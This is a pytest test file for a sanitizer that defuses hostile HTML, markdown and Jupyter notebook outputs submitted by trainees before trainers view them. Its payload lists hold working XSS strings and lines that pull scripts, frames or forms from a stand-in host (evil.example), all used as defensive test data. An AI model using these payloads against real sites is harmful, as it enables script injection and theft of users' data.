"""Trainee-controlled HTML, markdown and outputs made safe before a trainer's browser sees them."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from grading.feedback.sanitize import clean_html, clean_markdown, sanitize_notebook

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()

HOSTILE_HTML = [
    '<script>alert("PWNED")</script>',
    '<SCRIPT SRC="http://evil.example/PWNED.js"></SCRIPT>',
    "<img src=x onerror=\"alert('PWNED')\">",
    '<svg onload="alert(\'PWNED\')"><script>alert("PWNED")</script></svg>',
    "<body onload=alert('PWNED')>",
    "<a href=\"javascript:alert('PWNED')\">click</a>",
    "<a href=\"JaVaScRiPt&colon;alert('PWNED')\">click</a>",
    '<a href=" javascript:alert(1)//PWNED">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>PWNED">click</a>',
    '<a href="/hub/api/users?PWNED">relative call into the trainer\'s server</a>',
    '<iframe src="https://evil.example/PWNED"></iframe>',
    "<iframe srcdoc=\"<script>parent.alert('PWNED')</script>\"></iframe>",
    "<style>@import url(https://evil.example/PWNED.css); body{display:none}</style>",
    '<div style="background:url(https://evil.example/PWNED)">x</div>',
    '<link rel="stylesheet" href="https://evil.example/PWNED.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/PWNED">',
    '<form action="https://evil.example/PWNED"><input name="_xsrf"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">PWNED</button>',
    '<object data="https://evil.example/PWNED.swf"></object><embed src="PWNED.swf">',
    '<base href="https://evil.example/PWNED/">',
    '<img src="https://evil.example/PWNED.png">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('PWNED')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('PWNED')>\"></noscript>",
    "<!--<img src=x onerror=alert('PWNED')>-->",
    "<details open ontoggle=\"alert('PWNED')\">x</details>",
    '<template><script>alert("PWNED")</script></template>',
]

HOSTILE_MARKDOWN = [
    "[click](javascript:alert('PWNED'))",
    "<javascript:alert('PWNED')>",
    "[click][r]\n\n[r]: javascript:alert('PWNED')",
    "Fine text\n\n<script>alert('PWNED')</script>\n\nmore",
    "inline <img src=x onerror=\"alert('PWNED')\"> html",
    "![tracker](https://evil.example/PWNED.png)",
    "```\n\n\n[click](javascript:alert('PWNED'))\n```\n\n<b>x</b>",
    "[click](data:text/html;base64,PWNED)",
]


class Elements(HTMLParser):
    """Every element, attribute and script/style text of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.code_text: list[str] = []
        self._in_code = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in_code = tag in ("script", "style")

    def handle_endtag(self, tag):
        self._in_code = False

    def handle_data(self, data):
        if self._in_code:
            self.code_text.append(data)


def parsed(page: str) -> Elements:
    elements = Elements()
    elements.feed(page)
    return elements


def dangers(page: str) -> list[str]:
    """What in ``page`` could run code, restyle the page, submit or call out (hostile markers)."""
    found = []
    elements = parsed(page)
    for tag, attrs in elements.tags:
        if tag in ("iframe", "form", "object", "embed", "base", "link", "input", "button"):
            found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attrs:
            found.append("<meta http-equiv>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                found.append(f"{tag} {name}=")
            if "PWNED" in value or value.strip().lower().startswith(("javascript:", "data:text")):
                found.append(f"{tag} {name}={value!r}")
            if name in ("href", "src") and value.startswith("/"):
                found.append(f"{tag} {name}={value!r}")
    found += [text for text in elements.code_text if "PWNED" in text]
    return found


@pytest.mark.parametrize("hostile", HOSTILE_HTML)
def test_hostile_html_is_defused(hostile):
    """Does nothing that runs, restyles, submits or calls out survive clean_html?"""
    cleaned = clean_html(hostile)
    assert dangers(cleaned) == [], cleaned
    for tag, _ in parsed(cleaned).tags:
        assert tag not in ("script", "style", "svg", "math", "meta", "template", "noscript")


def test_harmless_html_keeps_its_meaning():
    """Do tables, emphasis, https links and embedded images survive?"""
    html = (
        '<table><tr><th>Open questions</th><td colspan="2">4</td></tr></table>'
        '<p><b>Good</b> <a href="https://www.samhsa.gov/">SAMHSA</a></p>'
        f'<img alt="plot" src="data:image/png;base64,{PNG}">'
    )
    cleaned = clean_html(html)
    assert "<th>Open questions</th>" in cleaned
    assert '<td colspan="2">4</td>' in cleaned
    assert 'href="https://www.samhsa.gov/"' in cleaned
    assert f'src="data:image/png;base64,{PNG}"' in cleaned


@pytest.mark.parametrize("hostile", HOSTILE_MARKDOWN)
def test_hostile_markdown_renders_harmlessly(hostile):
    """Rendered by the Markdown converter nbconvert uses, is cleaned markdown free of danger?"""
    exporter = HTMLExporter()
    markdown2html = exporter.environment.filters["markdown2html"]
    rendered = markdown2html({}, clean_markdown(hostile))
    assert dangers(rendered) == [], rendered


def test_harmless_markdown_is_left_as_written():
    """Is a trainee's ordinary prose (links, lists, code, a < sign) kept byte for byte?"""
    prose = (
        "## My reflection\n\nI asked *open* questions, e.g. `what matters most?`\n\n"
        "- see [SAMHSA](https://www.samhsa.gov/) and [module 5](../05-crisis/crisis.ipynb)\n"
        "- rapport < 3 at first\n\n```\nx = '<not html>'\n```\n"
    )
    assert clean_markdown(prose) == prose


def hostile_notebook():
    """A submission whose every renderable part carries an attack."""
    code = new_code_cell("show()")
    code.metadata["tags"] = ["x\" onmouseover=\"alert('PWNED')", "answer"]
    code.outputs = [
        new_output("display_data", data={"text/html": HOSTILE_HTML[0] + HOSTILE_HTML[2]}),
        new_output(
            "display_data",
            data={"application/javascript": "alert('PWNED')", "text/plain": "<JS>"},
        ),
        new_output(
            "display_data",
            data={"image/svg+xml": "<svg onload=\"alert('PWNED')\"><script>PWNED</script></svg>"},
        ),
        new_output(
            "display_data",
            data={"image/png": PNG},
            metadata={"image/png": {"width": "1 onerror=alert('PWNED')", "height": 40}},
        ),
        new_output("display_data", data={"image/png": "x\" onerror=\"alert('PWNED')"}),
        new_output("display_data", data={"text/markdown": HOSTILE_MARKDOWN[0]}),
        new_output(
            "display_data",
            data={"application/vnd.jupyter.widget-view+json": {"model_id": "PWNED"}},
        ),
        new_output(
            "execute_result",
            data={"text/html": "<b>ok</b>"},
            metadata={"text/html": {"isolated": True}},
            execution_count=1,
        ),
        new_output("stream", name="stdout", text="<script>alert('PWNED')</script>\n"),
    ]
    markdown = new_markdown_cell(HOSTILE_MARKDOWN[3])
    markdown.attachments = {
        "a.svg": {"image/svg+xml": "<svg><script>PWNED</script></svg>"},
        "b.png": {"image/png": PNG},
    }
    raw = new_raw_cell("<script>alert('PWNED')</script><b>raw</b>")
    raw.metadata["raw_mimetype"] = "text/html"
    notebook = new_notebook(cells=[markdown, code, raw])
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"PWNED": {}}}
    }
    return notebook


def test_a_hostile_notebook_exports_to_harmless_html():
    """Exported by nbconvert (as feedback and formgrader pages are), does any attack survive?"""
    notebook = sanitize_notebook(hostile_notebook())
    nbformat.validate(notebook)
    page, _ = HTMLExporter().from_notebook_node(notebook)
    assert dangers(page) == []
    assert "widget-state" not in page
    assert "&lt;script&gt;alert('PWNED')&lt;/script&gt;" in page  # stdout shown as text


def test_the_same_notebook_unsanitized_is_dangerous():
    """Does the danger check fire on the raw notebook (so the test above can fail)?"""
    page, _ = HTMLExporter().from_notebook_node(hostile_notebook())
    found = dangers(page)
    assert any("onerror" in item for item in found)
    assert any("PWNED" in item for item in found)


def test_sanitized_outputs_keep_what_is_safe():
    """Are images, their numeric size, text and dropped-type notes kept?"""
    notebook = sanitize_notebook(hostile_notebook())
    code = notebook.cells[1]
    outputs = code.outputs
    assert code.metadata["tags"] == ["answer"]
    assert outputs[1].data == {"text/plain": "<JS>"}
    assert outputs[2].data["text/html"].startswith('<img alt="SVG image" src="data:image/svg+xml;')
    assert outputs[3].data == {"image/png": PNG}
    assert outputs[3].metadata == {"image/png": {"height": 40}}
    assert "image/png" not in outputs[4].data
    assert outputs[6].data == {
        "text/plain": "[output not shown here: application/vnd.jupyter.widget-view+json]"
    }
    assert outputs[7].data == {"text/html": "<b>ok</b>"}
    assert outputs[7].metadata == {}
    assert notebook.cells[0].attachments == {"b.png": {"image/png": PNG}}
    assert notebook.cells[2].source == "<b>raw</b>"


def test_sanitizing_twice_changes_nothing_more():
    """Is a sanitized notebook a fixed point (safe to sanitize at every step)?"""
    once = sanitize_notebook(hostile_notebook())
    twice = sanitize_notebook(nbformat.from_dict(nbformat.from_dict(once)))
    assert twice == once
